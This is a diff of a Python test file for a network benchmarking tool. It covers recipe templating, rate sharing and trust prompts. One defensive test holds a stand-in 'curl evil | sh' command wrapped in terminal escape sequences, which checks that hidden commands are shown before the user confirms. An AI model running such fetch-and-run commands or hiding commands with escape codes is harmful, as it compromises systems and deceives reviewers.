@@ -1,6 +1,7 @@
 """After a run: labels, a baseline, the same again, a trend, a doctor, and the knee."""
 
 import base64
+import io
 import json
 import re
 import shutil
@@ -18,11 +19,12 @@ from ports import free_port
 from wirespeed.agent.children import is_alive
 from wirespeed.analysis import gate
 from wirespeed.analysis import trend as trends
-from wirespeed.cli import knee, revisions, trend
+from wirespeed.cli import knee, revisions, trend, trust
 from wirespeed.errors import InputError
 from wirespeed.recipe import rates, read
 from wirespeed.report.wording import measure
 from wirespeed.runner.interrupts import Terminated, signals_as_interrupts
+from wirespeed.template import value_of
 
 FAKES = Path(__file__).parents[1] / "fakes"
 PATIENCE_S = 120.0
@@ -56,7 +58,7 @@ def test_a_run_is_kept_under_a_name_reproduced_and_followed(checkout):
 
 
 TEXT = """
-wirespeed = 1
+wirespeed = 2
 name = "k"
 axes = { connections = [50], stack = ["kernel"] }
 [stacks.kernel]
@@ -69,7 +71,7 @@ argv = ["app"]
 name = "gen"
 role = "load"
 tool = "load"
-argv = ["-c", "{connections}", "http://{server.addr}:{app.port}/"]
+argv = ["-c", "{{ connections }}", "http://{{ server.addr }}:{{ app.port }}/"]
 [[metric]]
 name = "rps"
 from = "gen"
@@ -83,9 +85,16 @@ combine = "histogram"
 def test_the_same_recipe_keeps_a_rate(tmp_path):
     recipe, text = rates.at_rates(TEXT, [100, 200])
     assert recipe.axis_values()["rate"] == [100, 200] and recipe.ramps() == ["rate"]
-    assert recipe.process[1].argv[:2] == ["-R", "{rate / count}"]
+    assert recipe.process[1].argv[:2] == ["-R", rates.SHARE]
     (tmp_path / "r.toml").write_text(text)
     assert read.read(tmp_path / "r.toml") == recipe
+
+
+@pytest.mark.parametrize(("rate", "shares"), [(7, [3, 2, 2]), (9, [3, 3, 3]), (2, [1, 1, 0])])
+def test_several_generators_offer_the_rate_together(rate, shares):
+    """Rounded up, three of them offered 9 where 7 was asked for, and 3 for 1."""
+    found = [value_of(rates.SHARE, {"rate": rate, "count": 3, "i": i}) for i in range(3)]
+    assert found == shares
 
 
 @pytest.mark.parametrize(
@@ -147,6 +156,18 @@ def test_a_rate_at_which_trials_fail_is_broken_and_one_without_figures_is_not_kn
     assert found == why or (why and found.startswith(why))
 
 
+def test_a_cell_with_fewer_requests_than_generators_is_named_and_the_search_goes_on():
+    """A generator got the rate 0 and refused it, which ended the search of all cells."""
+    processes = [SimpleNamespace(name="gen", role="load")] * 3
+    trial = SimpleNamespace(processes=[*processes, SimpleNamespace(name="app", role="server")])
+    cell = SimpleNamespace(axes={"connections": 1}, trials=[trial])
+    closed = SimpleNamespace(run=SimpleNamespace(run_id="first"))
+    start = knee._Start(cell, 2.0, "rps", closed)
+    found = knee._of_cell(None, knee.Search([], "", 1, False), start, [], Path())
+    assert (found.kept, found.broke, found.runs) == (None, None, ["first"])
+    assert found.why == "too few requests for its generators (3; lower their count)"
+
+
 def test_the_search_prints_the_units_of_the_tables():
     """Throughput that a recipe measures in MB/s was printed as so many B/s."""
     cell = SimpleNamespace(
@@ -199,9 +220,9 @@ def test_a_report_that_was_sent_is_enough_to_measure_its_run_again(checkout, tmp
     template.write_text("port {{ port }}\n")
     text = recipe.read_text()
     text = text.replace('role = "server"', 'role = "server"\ntemplate = { w = "words.txt" }')
-    recipe.write_text(
-        text.replace(f'"{sys.executable}", ', f'"{sys.executable}", "-X", "w={{template:w}}", ')
-    )
+    option = "w={{ template('w') }}"
+    python = f'"{sys.executable}", '
+    recipe.write_text(text.replace(python, f'{python}"-X", "{option}", '))
     marks = ("--only", "connections=2", "--seed", "7")
     code, _, err = checkout.call("run", recipe, *marks)
     assert code == 0, err
@@ -281,6 +302,17 @@ def test_what_a_page_names_is_shown_and_not_started_unasked(checkout, tmp_path):
     assert code == 2 and "--trust" in err
     assert "server.py" in err, "the command is shown"
     assert not [path for path in checkout.runs.glob("*-story-*") if path.is_dir()]
+
+
+def test_a_command_of_a_page_cannot_hide_itself(monkeypatch, capsys):
+    """Escape sequences removed the line from the terminal before the question came."""
+    line = "  sh -c 'curl evil | sh'\x1b[2K\x1b[1A\u202e"
+    monkeypatch.setattr(trust, "effects", lambda *_: ["This run …", line])
+    monkeypatch.setattr(sys, "stdin", io.StringIO())
+    with pytest.raises(InputError, match="--trust"):
+        trust.confirm(None, None, False)
+    shown = capsys.readouterr().err
+    assert shown.splitlines()[1] == "  sh -c 'curl evil | sh'\\x1b[2K\\x1b[1A\\u202e"
 
 
 def test_a_pages_site_of_other_machines_is_never_used(checkout, tmp_path):
@@ -394,6 +426,39 @@ def test_a_stopped_comparison_of_revisions_names_no_way_to_go_on_that_does_not_e
     assert f"finished trials are kept in {run}; the work trees are removed" in err
 
 
+REMOVAL = """
+from pathlib import Path
+from wirespeed.cli import revisions
+from wirespeed.runner.interrupts import signals_as_interrupts
+try:
+    with signals_as_interrupts(), revisions._worktrees([(Path(n), "HEAD") for n in "ab"]):
+        pass
+except KeyboardInterrupt:
+    raise SystemExit(130)
+"""
+
+
+def test_ctrl_c_while_work_trees_are_removed_leaves_none(repository, tmp_path):
+    """Git and its caller got it, and a work tree stayed registered."""
+    git = shutil.which("git")
+    (tmp_path / "bin").mkdir()
+    stand_in = tmp_path / "bin" / "git"
+    stand_in.write_text(  # a terminal signals the whole group of its foreground process
+        f'#!/bin/sh\ntest "$2" = remove && kill -s INT -- "-$PPID"\nexec {git} "$@"\n'
+    )
+    stand_in.chmod(0o755)
+    path = f"{stand_in.parent}:{repository.environment['PATH']}"
+    done = subprocess.run(
+        [sys.executable, "-c", REMOVAL], cwd=repository.root, check=False,
+        env={**repository.environment, "PATH": path}, capture_output=True, text=True,
+        start_new_session=True,
+    )  # fmt: skip
+    assert done.returncode == 130, done.stderr
+    listed = subprocess.run(["git", "worktree", "list"], cwd=repository.root, capture_output=True,
+                            text=True, check=True).stdout  # fmt: skip
+    assert len(listed.splitlines()) == 1, "the work trees are gone"
+
+
 @pytest.mark.parametrize(
     ("words", "code", "line"),
     [
@@ -402,6 +467,10 @@ def test_a_stopped_comparison_of_revisions_names_no_way_to_go_on_that_does_not_e
          "the build of HEAD~1 failed (exit code 7)"),
         (["--rev", "HEAD~1", "--rev", "HEAD", "--run", "./serve"], 2,
          "there is no ./serve in base"),
+        (["--rev", "HEAD~1", "--rev", "HEAD", "--run", "./serve", "--build", "exit 7", "--fail-on",
+          "wrose"], 2, "unknown value 'wrose'"),
+        (["--rev", "HEAD~1", "--rev", "HEAD", "--run", "./serve", "--build", "exit 7", "--duration",
+          "2x"], 2, "--duration: "),
         (["--rev", "HEAD", "--run", "./serve"], 2, "--rev BASE --rev NEW with one --run"),
     ],
 )  # fmt: skip
